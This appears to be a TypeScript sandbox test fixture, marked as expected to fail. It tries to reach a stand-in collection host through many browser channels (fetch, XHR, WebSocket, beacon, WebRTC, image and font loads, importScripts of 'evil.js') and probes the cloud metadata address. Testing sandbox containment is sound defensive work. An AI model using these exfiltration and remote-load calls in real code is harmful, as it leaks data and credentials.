// threat: 1, 17 — sends its findings home by every means that a browser has
// ends: fail
const scope = globalThis as any;
const home = "http://collect.example.org/found?by=attack";
const tried: Record<string, () => unknown> = {
  fetch: () => scope.fetch(home, { mode: "no-cors" }),
  sameOrigin: () => scope.fetch("/"),
  metadata: () => scope.fetch("http://169.254.169.254/latest/meta-data/"),
  xhr: () => {
    const request = new scope.XMLHttpRequest();
    request.open("GET", home, false);
    request.send();
  },
  socket: () => new scope.WebSocket("ws://collect.example.org/"),
  events: () => new scope.EventSource(home),
  scripts: () => scope.importScripts("http://collect.example.org/evil.js"),
  beacon: () => scope.navigator.sendBeacon(home, "found"),
  transport: () => new scope.WebTransport("https://collect.example.org:4433/"),
  peer: () => new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:collect.example.org" }] }),
  image: () => {
    new scope.Image().src = home;
  },
  font: () => new scope.FontFace("a", "url(" + home + ")").load(),
  request: () => new scope.Request(home),
};
for (const [name, attempt] of Object.entries(tried)) {
  try {
    await attempt();
    console.log("siklus-escaped: " + name);
  } catch {}
}

export function countOutcomes() {
  return { tp: 0, fp: 0, fn: 0, tn: 0 };
}
